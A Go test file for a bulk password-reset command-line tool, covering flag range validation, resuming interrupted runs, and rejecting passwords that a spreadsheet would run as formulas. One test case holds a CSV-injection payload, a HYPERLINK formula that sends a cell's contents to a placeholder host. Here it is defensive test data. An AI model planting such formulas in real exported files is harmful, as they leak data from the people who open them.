package main

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/bulkreset/bulkreset/pkg/graphsim"
	"github.com/bulkreset/bulkreset/pkg/report"
)

// TestNumericFlagsOutOfRange: a numeric flag whose value means nothing (not
// a number, infinite, too small to be a rate, a duration of zero or of
// years) is a usage error naming the flag and its range, never a cap
// silently removed.
func TestNumericFlagsOutOfRange(t *testing.T) {
	users := graphsim.GenerateUsers(2, testDomain)
	tn := startTenant(t, graphsim.Options{}, users)
	dir := t.TempDir()
	in := writeFile(t, dir, "users.csv", "UserPrincipalName\n"+users[0].UPN+"\n")
	tests := []struct {
		flag, value string
		want        string // in stderr: the flag and its accepted range
	}{
		{"--max-rate", "NaN", "--max-rate must be 0 (no cap) or 0.01 to 10000"},
		{"--max-rate", "nan", "--max-rate must be 0 (no cap) or 0.01 to 10000"},
		{"--max-rate", "Inf", "--max-rate must be 0 (no cap) or 0.01 to 10000"},
		{"--max-rate", "+Inf", "--max-rate must be 0 (no cap) or 0.01 to 10000"},
		{"--max-rate", "-Inf", "--max-rate must be 0 (no cap) or 0.01 to 10000"},
		{"--max-rate", "1e-300", "--max-rate must be 0 (no cap) or 0.01 to 10000"},
		{"--max-rate", "0.001", "--max-rate must be 0 (no cap) or 0.01 to 10000"},
		{"--max-rate", "-1", "--max-rate must be 0 (no cap) or 0.01 to 10000"},
		{"--max-rate", "1e300", "--max-rate must be 0 (no cap) or 0.01 to 10000"},
		{"--request-timeout", "0s", "--request-timeout must be 1s to 1h"},
		{"--request-timeout", "-5s", "--request-timeout must be 1s to 1h"},
		{"--request-timeout", "2562047h", "--request-timeout must be 1s to 1h"},
		{"--concurrency", "0", "--concurrency must be 1 to 64"},
		{"--concurrency", "-1", "--concurrency must be 1 to 64"},
		{"--concurrency", "65", "--concurrency must be 1 to 64"},
		{"--batch-size", "0", "--batch-size must be 1 to 20"},
		{"--max-attempts", "0", "--max-attempts must be 1 to 100"},
		{"--max-attempts", "101", "--max-attempts must be 1 to 100"},
		{"--password-length", "257", "--password-length must be 8 to 256"},
	}
	for _, tc := range tests {
		t.Run(tc.flag+"="+tc.value, func(t *testing.T) {
			out := t.TempDir()
			args := append([]string{"reset", "-i", in, "-o", filepath.Join(out, "r.csv"), "--secrets", filepath.Join(out, "s.csv"),
				"--yes", tc.flag + "=" + tc.value}, tn.authArgs()...)
			res := runCLI(t, t.Context(), tn.getenv(nil), args...)
			if res.code != exitUsage {
				t.Errorf("exit code %d, want %d (usage); stderr:\n%s", res.code, exitUsage, res.stderr)
			}
			if !strings.Contains(res.stderr, tc.want) {
				t.Errorf("stderr does not say %q:\n%s", tc.want, res.stderr)
			}
		})
	}
	if st := tn.sim.Stats(); st.WritesApplied != 0 || st.TokensIssued != 0 {
		t.Errorf("a run with a bad flag value signed in (%d tokens) or wrote (%d writes)", st.TokensIssued, st.WritesApplied)
	}
	// The edges of each range are accepted.
	res := runCLI(t, t.Context(), tn.getenv(nil), append([]string{"plan", "-i", in, "-o", filepath.Join(t.TempDir(), "p.csv"),
		"--password-mode", "none", "--max-rate", "0.01", "--request-timeout", "1h", "--concurrency", "64", "--max-attempts", "100"}, tn.authArgs()...)...)
	if res.code != exitOK {
		t.Errorf("plan with every flag at the edge of its range: exit code %d, want 0; stderr:\n%s", res.code, res.stderr)
	}
}

// TestResumeRecordedFormulaPassword: a run from before formula passwords
// were refused recorded "=Blue-Kettle-42" in the secrets file and was
// interrupted before the row's outcome was known. That password may be in
// force, and the file already holds it: --resume sends it again (it used
// to stop, saying the input file changed) and the row ends succeeded with
// the recorded password in force.
func TestResumeRecordedFormulaPassword(t *testing.T) {
	users := graphsim.GenerateUsers(2, testDomain)
	tn := startTenant(t, graphsim.Options{}, users)
	dir := t.TempDir()
	const pw = "=Blue-Kettle-42"
	in := writeFile(t, dir, "users.csv", "UserPrincipalName,Password\n"+users[0].UPN+","+pw+"\n"+users[1].UPN+",Green-Teapot-17\n")
	results := writeFile(t, dir, "results.csv", strings.Join(report.ResultsHeader, ",")+"\n")
	secrets := filepath.Join(dir, "secrets.csv")
	if err := os.WriteFile(secrets, []byte(strings.Join(report.SecretsHeader, ",")+"\n2,"+users[0].UPN+","+pw+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	res := runCLI(t, t.Context(), tn.getenv(nil), append([]string{"reset", "-i", in, "-o", results, "--secrets", secrets,
		"--yes", "--resume", "--password-mode", "column"}, tn.authArgs()...)...)
	if res.code != exitOK {
		t.Fatalf("--resume: exit code %d, want 0; stderr:\n%s", res.code, res.stderr)
	}
	got := readResults(t, results)
	for i, want := range []string{pw, "Green-Teapot-17"} {
		r := got[i+2]
		u, _ := tn.sim.User(users[i].UPN)
		if r.Outcome != report.Succeeded || u.Password != want || u.PasswordSets != 1 {
			t.Errorf("line %d: %s/%s, %d password sets; want succeeded with the recorded password in force", i+2, r.Outcome, r.Reason, u.PasswordSets)
		}
	}
	if len(got) != 2 {
		t.Errorf("%d result rows, want 2", len(got))
	}
	if recorded := readSecrets(t, secrets); recorded[strings.ToLower(users[0].UPN)] != pw || recorded[strings.ToLower(users[1].UPN)] != "Green-Teapot-17" {
		t.Errorf("the secrets file does not hold the passwords in force")
	}
}

// TestPasswordColumnFormula: a Password cell beginning with = + - or @ (or
// with quotes and then one of them) is what a spreadsheet runs as a formula
// when the secrets file is opened. Escaping it would change the password a
// person or a script reads from the file, so such a row is invalid with
// its own reason and never sent; every other password is recorded exactly
// as it was set.
func TestPasswordColumnFormula(t *testing.T) {
	users := graphsim.GenerateUsers(6, testDomain)
	tn := startTenant(t, graphsim.Options{}, users)
	dir := t.TempDir()
	pws := []string{
		`=HYPERLINK("http://x.example/?"&A1,"Open")1a`,
		"+Blue-Kettle-42",
		"-Blue-Kettle-42",
		"@Blue-Kettle-42",
		"'=Blue-Kettle-42",
		"Blue-Kettle-42=", // a formula character elsewhere is harmless
	}
	var b strings.Builder
	b.WriteString("UserPrincipalName,Password\n")
	for i, pw := range pws {
		b.WriteString(users[i].UPN + "," + csvCell(pw, ',') + "\n")
	}
	_, results, secrets := resetColumnMode(t, tn, dir, b.String())
	got := readResults(t, results)
	recorded := readSecrets(t, secrets)
	for i, pw := range pws {
		line := i + 2
		r := got[line]
		u, _ := tn.sim.User(users[i].UPN)
		if i < 5 {
			if r.Outcome != report.Invalid || r.Reason != "password_formula" || u.PasswordSets != 0 {
				t.Errorf("line %d: %s/%s, %d password sets; want invalid/password_formula, nothing sent", line, r.Outcome, r.Reason, u.PasswordSets)
			}
			if strings.Contains(r.ErrorMessage, pw) {
				t.Errorf("line %d: the error message shows the password", line)
			}
			continue
		}
		if r.Outcome != report.Succeeded || u.Password != pw || recorded[strings.ToLower(users[i].UPN)] != pw {
			t.Errorf("line %d: %s/%s; the password in force or recorded is not the Password cell", line, r.Outcome, r.Reason)
		}
	}
	// No cell of the secrets file begins with a formula character.
	cells, err := csv.NewReader(strings.NewReader(readFile(t, secrets))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range cells {
		for _, cell := range rec {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@") {
				t.Errorf("secrets file has a cell a spreadsheet would run as a formula, in the row of %s", rec[1])
			}
		}
	}
	// check says the same, offline.
	chk := runCheckCLI(t, b.String(), "-i", "-", "--password-mode", "column")
	if chk.code != exitRowsFailed || !strings.Contains(chk.stdout+chk.stderr, "password_formula") {
		t.Errorf("check: exit code %d, want %d with password_formula:\n%s%s", chk.code, exitRowsFailed, chk.stdout, chk.stderr)
	}
}
